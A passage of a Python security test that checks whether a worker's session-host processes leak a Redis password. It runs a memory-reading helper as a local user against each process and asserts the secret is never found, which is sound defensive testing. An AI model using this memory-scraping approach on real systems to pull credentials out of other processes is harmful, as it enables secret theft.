        session_hosts = [c for c in children(worker.pid) if b"toolq.workers.sessions.host" in cmdline(c)]
        assert session_hosts, "the worker's session host was not found"
        password = redis_env.url.split("://:", 1)[1].split("@", 1)[0]
        assert len(password) >= 16, redis_env.url
        read = {}
        for pid, line in _in_namespace(worker.pid).items():
            done = as_local_user(READ_MEMORY, str(pid), password)
            read[pid] = (line, Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1], done.stdout.strip())
        assert not [v for v in read.values() if "FOUND" in v[2]], read
    finally:
        worker.stop(grace=3)
